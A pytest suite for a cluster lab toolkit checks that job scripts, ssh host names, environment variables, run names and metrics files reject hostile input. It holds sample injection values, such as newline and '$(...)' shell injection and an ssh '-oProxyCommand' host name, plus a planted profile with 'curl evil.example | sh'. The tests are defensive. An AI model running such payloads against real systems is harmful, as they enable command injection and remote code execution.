"""Hostile input, third round: text that reaches a job script, host names, the environment,
records the class commands read, arguments that used to fail as tracebacks.

Each attack here once ran a command, crashed a command or moved someone's run; each now gets
one clear LabkitError naming the value and the fix, before anything is written or submitted.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labkit.errors import ConfigError, LabkitError
from labkit.run import JobSpec

PWN = "TP=1\ntouch /tmp/PWNED"
MARK = Path("/tmp/PWNED")  # what every attack here would write, had it run


def _stamp() -> int | None:
    try:
        return MARK.stat().st_mtime_ns
    except OSError:
        return None


@pytest.fixture(autouse=True)
def _no_payload_ran():
    """Refused is not enough: the attack's payload must not have run either (the file may be
    left from elsewhere; this test must not have written it)."""
    before = _stamp()
    yield
    assert _stamp() == before, f"an attack's payload ran during this test: {MARK} was written"


# ---- text that reaches a job script: the one validation door ------------------------------

@pytest.mark.parametrize("kw,named", [
    ({"layout": PWN}, "layout="),
    ({"layout": "TP=1\rx"}, "layout="),
    ({"megatron_flags": (("x$(touch /tmp/PWNED)", (("--a", "1"),)),)}, "group"),
    ({"megatron_flags": (("training\nid", (("--a", "1"),)),)}, "group"),
    ({"megatron_flags": (("training", (("--a", "1\ntouch /tmp/PWNED"),)),)}, "megatron_flags"),
    ({"megatron_flags": 5}, "megatron_flags=5"),
])
def test_jobspec_refuses_text_that_would_run_as_shell(kw, named):
    with pytest.raises(ConfigError, match=named):
        JobSpec("x", **kw)


def test_jobspec_of_a_run_config_still_passes_the_door():
    from labkit.config import RunConfig

    spec = JobSpec.from_config(RunConfig(name="ok"))
    assert spec.layout.startswith("TP=") and spec.megatron_flags


@pytest.mark.parametrize("kw,named", [
    ({"ops": ["all_reduce\ntouch /tmp/PWNED #"]}, r"ops\[0\]="),
    ({"ops": "all_reduce"}, "must be a list"),
    ({"scopes": ["world", "intra\x00"]}, r"scopes\[1\]="),
    ({"min_bytes": "1K\nid"}, "min_bytes="),
])
def test_submit_bench_refuses_control_characters_before_writing(run_root, kw, named):
    from labkit.measured.comm import submit_bench

    with pytest.raises(ConfigError, match=named):
        submit_bench("bw", **kw)
    assert not any(run_root.iterdir())


# ---- host names: a grammar, and '--' before the host on ssh's command line ----------------

EVIL_HOST = "-oProxyCommand=touch${IFS}/tmp/PWNED"


def _hostfile_site(tmp_path, line: str) -> Path:
    hf = tmp_path / "hostfile"
    hf.write_text(f"node1 slots=2\n{line}\n")
    site = tmp_path / "hf.yaml"
    site.write_text(f"name: hf\nhostfile: {hf}\ngpu_request: none\n")
    return site


@pytest.mark.parametrize("line", [f"{EVIL_HOST} slots=2", "-x slots=1", ".hidden slots=1",
                                  "a;b slots=1", "$(id) slots=1"])
def test_check_cluster_refuses_a_hostfile_host_that_is_not_a_host_name(tmp_path, capsys, line):
    from labkit.cli import main

    assert main(["check", "--cluster", str(_hostfile_site(tmp_path, line))]) == 2
    assert "is not a host name" in capsys.readouterr().err
    assert main(["check", "--json", "--cluster", str(_hostfile_site(tmp_path, line))]) == 2
    assert "is not a host name" in capsys.readouterr().out


@pytest.mark.parametrize("field,value", [("name", EVIL_HOST), ("address", "-oX=y"),
                                         ("name", "node 1"), ("name", "")])
def test_a_profile_host_that_is_not_a_host_name_is_refused(field, value):
    from labkit.site import ClusterProfile

    host = {"name": "node1", "slots": 1, field: value}
    with pytest.raises(ConfigError, match="is not a host name"):
        ClusterProfile(name="hosts", hosts=(host,))


def test_host_names_and_addresses_that_are_real_pass():
    from labkit.hosts import host_name_problem

    for name in ("node1", "gpu-a100-07.cluster.example.org", "worker_3", "10.0.0.11"):
        assert host_name_problem("h", name) is None
    assert host_name_problem("h", "fe80::1", address=True) is None


def test_doctor_never_dials_a_hostfile_host_that_is_not_a_host_name(tmp_path, monkeypatch):
    from stub_commands import install, records

    from labkit.doctor import CHECKS, FAIL, run_doctor

    install(tmp_path / "bin", ["ssh", "pdsh"])
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{os.environ['PATH']}")
    monkeypatch.setenv("STUB_LOG", str(tmp_path / "log"))
    (tmp_path / "log").mkdir()
    hf = tmp_path / "hostfile"
    hf.write_text(f"{EVIL_HOST} slots=2\n")
    some = [c for c in CHECKS if c[0] == "hostfile"]
    results = run_doctor(hostfile=hf, checks=some, backend="hostfile")
    assert results[0].status == FAIL and "is not a host name" in results[0].detail, results
    assert records(tmp_path / "log") == []  # neither ssh nor pdsh ran


def test_ssh_reads_the_host_after_double_dash():
    from labkit.backends import hostfile
    from labkit.doctor import hostchecks

    assert hostfile.SSH[-1] == "--" and hostchecks.SSH[-1] == "--"


# ---- the environment: empty LABKIT_* values refused, '~' expanded ------------------------

def _labkit(args: list[str], cwd: Path, **env: str) -> subprocess.CompletedProcess:
    full = {k: v for k, v in os.environ.items() if not k.startswith("LABKIT_")}
    return subprocess.run([sys.executable, "-m", "labkit", *args], cwd=cwd, env={**full, **env},
                          capture_output=True, text=True, timeout=120)


def test_an_empty_slurm_dir_is_refused_not_taken_as_this_folder(tmp_path):
    planted = tmp_path / "site.yaml"  # what an empty $LABKIT_SLURM_DIR made the site profile
    planted.write_text("name: planted\nsetup: ['curl evil.example | sh']\n")
    code = ("from labkit.site import resolve_cluster\n"
            "from labkit.errors import ConfigError\n"
            "try:\n    print(resolve_cluster(None).name)\n"
            "except ConfigError as e:\n    print('REFUSED', e)\n")
    for value in ("", "  ", "a\nb"):
        p = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True,
                           text=True, timeout=120, env={**os.environ, "LABKIT_SLURM_DIR": value})
        assert p.stdout.startswith("REFUSED") and "$LABKIT_SLURM_DIR" in p.stdout, (value, p)
    p = _labkit(["cluster", "status"], tmp_path, LABKIT_SLURM_DIR="")
    assert p.returncode == 2 and "$LABKIT_SLURM_DIR is set but empty" in p.stderr, p


def test_an_empty_cluster_variable_is_refused(monkeypatch):
    from labkit.site import resolve_cluster

    monkeypatch.setenv("LABKIT_CLUSTER", " ")
    with pytest.raises(ConfigError, match=r"\$LABKIT_CLUSTER is set but empty"):
        resolve_cluster(None)


def test_a_tilde_in_the_run_root_is_the_home_folder(tmp_path, monkeypatch):
    from labkit.paths import run_root

    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("LABKIT_RUN_ROOT", "~/runs")
    assert run_root() == (tmp_path / "home" / "runs").resolve()
    monkeypatch.setenv("LABKIT_RUN_ROOT", "~no-such-user-here/runs")
    with pytest.raises(ConfigError, match="names no user"):
        run_root()
    assert not (tmp_path / "~").exists()


# ---- a student's metrics.json of any shape ------------------------------------------------

def test_class_status_reads_any_metrics_file_without_crashing(tmp_path, monkeypatch, capsys):
    import json

    from labkit.cli import main

    monkeypatch.delenv("LABKIT_CLUSTER", raising=False)
    site = tmp_path / "site.yaml"
    site.write_text(f"name: class\nrun_root: {tmp_path}/class/{{user}}/runs\n")
    shapes = {"mallory": "[1, 2]", "eve": "null", "trent": '"exercise.x"', "bob": "{bad json",
              "alice": '{"exercise.01_a": true, "exercise.01_b": false, "loss": 2.5}'}
    for user, text in shapes.items():
        d = tmp_path / "class" / user / "runs" / "nb01_x"
        d.mkdir(parents=True)
        (d / "metrics.json").write_text(text)
    assert main(["class", "status", "--cluster", str(site), "--json"]) == 0
    rows = {r["user"]: r for r in json.loads(capsys.readouterr().out)}
    assert rows["alice"]["exercises"] == {"passed": 1, "total": 2}
    assert all(rows[u]["exercises"] is None for u in ("mallory", "eve", "trent", "bob"))


# ---- clear errors instead of tracebacks -----------------------------------------------------

PROGRAM = Path(__file__).parent / "programs" / "ckpt_job.py"


def _job(name: str, sleep: float = 0.0):
    from labkit.jobs import JobSpec as Spec
    from labkit.jobs import submit

    return submit(Spec(name), program=PROGRAM,
                  program_args=["--run-dir", "{run_dir}", "--bytes", "1000", "--sleep", str(sleep)])


@pytest.mark.parametrize("kind", ["symlink", "file"])
def test_clean_leaves_a_checkpoints_link_or_file_alone(run_root, tmp_path, monkeypatch, capsys,
                                                       kind):
    from labkit.cli import main
    from labkit.jobs import JobState

    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    monkeypatch.delenv("LABKIT_CLUSTER", raising=False)
    job = _job("ck")
    assert job.wait(timeout=120, progress=False) is JobState.COMPLETED
    ck = job.run_dir / "checkpoints"
    subprocess.run(["rm", "-r", str(ck)], check=True)
    precious = tmp_path / "elsewhere"
    precious.mkdir()
    (precious / "keep.pt").write_text("x")
    if kind == "symlink":
        ck.symlink_to(precious)
    else:
        ck.write_text("not a folder")
    assert main(["clean"]) == 0
    assert (precious / "keep.pt").exists() and (ck.is_symlink() or ck.is_file())
    assert f"not removed: {ck} is a {kind}" in capsys.readouterr().err


def test_new_names_a_file_in_the_way(run_root, capsys):
    from labkit.cli import main

    (run_root / "afile").write_text("x")
    assert main(["new", "afile"]) == 1
    assert "is a file, not a run directory" in capsys.readouterr().err


@pytest.mark.parametrize("root, code, says", [("/etc/hostname", 2, "is a file, not a folder"),
                                              ("/proc", 1, "cannot write /proc/x1/config.json")])
def test_new_in_a_run_root_that_cannot_hold_runs(monkeypatch, capsys, root, code, says):
    from labkit.cli import main

    monkeypatch.setenv("LABKIT_RUN_ROOT", root)
    assert main(["new", "x1"]) == code
    assert says in capsys.readouterr().err


@pytest.mark.parametrize("text", ["[1, 2]", "{bad", '{"notebooks": [1]}', '{"profile": "cpu"}',
                                  '{"profile": "cpu", "notebooks": [{"x": 1}]}', None])
def test_write_baseline_of_a_bad_or_missing_file_is_a_clear_error(tmp_path, capsys, text):
    from labkit.cli import main

    f = tmp_path / "metrics.json"
    if text is not None:
        f.write_text(text)
    assert main(["regress", "--write-baseline", str(f), "--baseline",
                 str(tmp_path / "b.json")]) in (1, 2)
    err = capsys.readouterr().err
    assert str(f) in err and "Traceback" not in err
    assert not (tmp_path / "b.json").exists()


def test_write_baseline_never_replaces_a_folder(tmp_path, capsys):
    from labkit.cli import main

    f = tmp_path / "metrics.json"
    f.write_text(json.dumps({"profile": "cpu", "backend": "local", "cluster": None,
                             "notebooks": []}))
    (tmp_path / "dir").mkdir()
    assert main(["regress", "--write-baseline", str(f), "--baseline", str(tmp_path / "dir")]) == 1
    assert "is a folder" in capsys.readouterr().err and (tmp_path / "dir").is_dir()


@pytest.mark.parametrize("text", ["[1, 2]", '{"notebooks": {"00": 5}}', '{"loads": {"00": "x"}}',
                                  None])
def test_a_bad_baseline_is_refused_before_any_notebook_runs(run_root, tmp_path, text):
    from labkit import regress

    bad = tmp_path / "bad.json"
    if text is not None:
        bad.write_text(text)
    with pytest.raises(LabkitError, match=str(bad)):
        regress.regress(["00"], baseline=bad, out=tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_regress_out_that_is_a_file(run_root, tmp_path):
    from labkit import regress

    (tmp_path / "f").write_text("x")
    with pytest.raises(LabkitError, match="is a file"):
        regress.regress(["00"], out=tmp_path / "f")


# ---- regress never moves a live job's directory aside --------------------------------------

def test_regress_checks_names_first_and_never_moves_a_live_run_aside(run_root, monkeypatch):
    from labkit import regress
    from labkit.jobs import JobState

    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    monkeypatch.delenv("LABKIT_CLUSTER", raising=False)
    job = _job("regress", sleep=60)
    try:
        out = run_root / "regress"
        with pytest.raises(LabkitError, match=r"no notebook matches \['99'\]"):
            regress.regress(["99"], out=out)
        with pytest.raises(LabkitError, match="still (PENDING|RUNNING)"):
            regress.regress(["00"], out=out)
        with pytest.raises(LabkitError, match="holds the run root"):
            regress.regress(["00"], out=run_root)
        assert (out / "job.json").exists() and not list(run_root.glob("regress.old-*"))
        assert job.state() in (JobState.PENDING, JobState.RUNNING)
    finally:
        job.cancel()


def test_regress_never_moves_an_unreadable_record_aside(run_root, tmp_path):
    from labkit import regress

    out = tmp_path / "out"
    (out / "runs" / "x").mkdir(parents=True)
    (out / "runs" / "x" / "job.json").write_text("{not json")
    with pytest.raises(LabkitError, match="cannot read"):
        regress.regress(["00"], out=out)
    assert (out / "runs" / "x" / "job.json").exists()


# ---- property tests of the doors ---------------------------------------------------------

_HOSTILE_TEXT = st.one_of(st.text(max_size=30), st.sampled_from(
    ["-oProxyCommand=x", "node1\n", "a b", "$(id)", ".", "-", "node-1", "10.0.0.1", "fe80::1"]))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(_HOSTILE_TEXT, st.booleans())
def test_a_host_name_is_accepted_only_when_no_program_can_read_it_as_more(value, address):
    import shlex

    from labkit.hosts import host_name_problem

    why = host_name_problem("host", value, address=address)
    if why is None:
        assert value and value[0] not in "-." and shlex.quote(value) == value
        assert not any(c.isspace() or ord(c) < 32 for c in value)
    else:
        assert "is not a host name" in why


@settings(max_examples=200, deadline=None, derandomize=True)
@given(_HOSTILE_TEXT, _HOSTILE_TEXT, _HOSTILE_TEXT)
def test_jobspec_text_is_one_line_or_refused(layout, group, word):
    try:
        spec = JobSpec("x", layout=layout, megatron_flags=((group, (("--f", word),)),))
    except ConfigError as e:
        assert any(k in str(e) for k in ("layout", "megatron_flags")), e
        return
    assert all(c >= " " and c != "\x7f" for c in spec.layout + word)
    assert group.isidentifier() and group.isascii()


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.one_of(_HOSTILE_TEXT, st.sampled_from(["..", "../x", "/etc/x", "a/b", "a\\b", "x" * 65,
                                                "ok.run-1", "..x", ".hidden", "run\x00"])))
def test_a_run_name_never_leads_out_of_the_run_root(name):
    from labkit.paths import run_dir

    root = Path("/srv/runs/alice")
    try:
        d = run_dir(name, root)
    except ConfigError as e:
        assert "run name" in str(e)
        return
    assert d.parent == root and d.name == name and name not in (".", "..")
    assert "/" not in name and "\\" not in name and name[0].isalnum()


@pytest.mark.parametrize("var", ["LABKIT_METRICS_FILE", "LABKIT_EXERCISE_ANSWERS"])
def test_an_empty_metrics_or_answers_file_variable_is_refused(run_root, monkeypatch, var):
    from labkit.exercises import check_value
    from labkit.record import record

    monkeypatch.setenv(var, "")
    with pytest.raises(ConfigError, match=rf"\${var} is set but empty"):
        record("x", 1) if var == "LABKIT_METRICS_FILE" else check_value("x", 1.0, 1.0, hint="h")
